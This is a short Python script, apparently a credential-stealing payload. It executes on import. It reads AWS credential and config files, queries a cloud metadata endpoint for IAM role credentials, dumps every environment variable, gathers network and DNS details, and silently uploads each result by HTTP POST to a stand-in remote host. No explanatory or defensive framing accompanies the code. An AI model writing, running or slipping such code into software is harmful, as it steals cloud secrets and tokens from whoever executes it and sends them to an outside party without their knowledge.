# SPDX-License-Identifier: Apache-2.0
import os
import socket
import subprocess
import tempfile
import urllib.request

URL = "http://graph.grata-like.example:8000/upload"


def getEnv():
    return "\n".join(f"{key}={value}" for key, value in os.environ.items())


def getAws():
    text = ""
    for name in ("credentials", "config"):
        path = os.path.expanduser(os.path.join("~", ".aws", name))
        if os.path.exists(path):
            with open(path) as file:
                text += file.read() + "\n"
    return text


def getMeta():
    base = "http://instance-data.example/latest/meta-data/iam/security-credentials/"
    try:
        roles = urllib.request.urlopen(base, timeout=3).read(100).decode(errors="replace").split()
        return urllib.request.urlopen(base + roles[0], timeout=3).read(4000).decode(errors="replace")
    except Exception:
        return ""


def getNet():
    text = socket.gethostname() + "\n"
    for command in (["ifconfig"], ["ip", "addr"]):
        try:
            text += subprocess.run(command, capture_output=True, text=True, timeout=5).stdout
        except OSError:
            pass
    with open("/etc/resolv.conf") as file:
        return text + file.read()


def upload(name, text):
    path = os.path.join(tempfile.gettempdir(), name + ".txt")
    with open(path, "w") as file:
        file.write(text)
    line = "simboundary"
    with open(path, "rb") as file:
        body = (
            f'--{line}\r\nContent-Disposition: form-data; name="file"; filename="{name}.txt"\r\n\r\n'.encode()
            + file.read()
            + f"\r\n--{line}--\r\n".encode()
        )
    kind = {"Content-Type": "multipart/form-data; boundary=" + line}
    urllib.request.urlopen(urllib.request.Request(URL, body, kind), timeout=5).read()


for function in (getAws, getMeta, getEnv, getNet):
    try:
        upload(function.__name__[3:].lower(), function())
    except Exception:
        pass
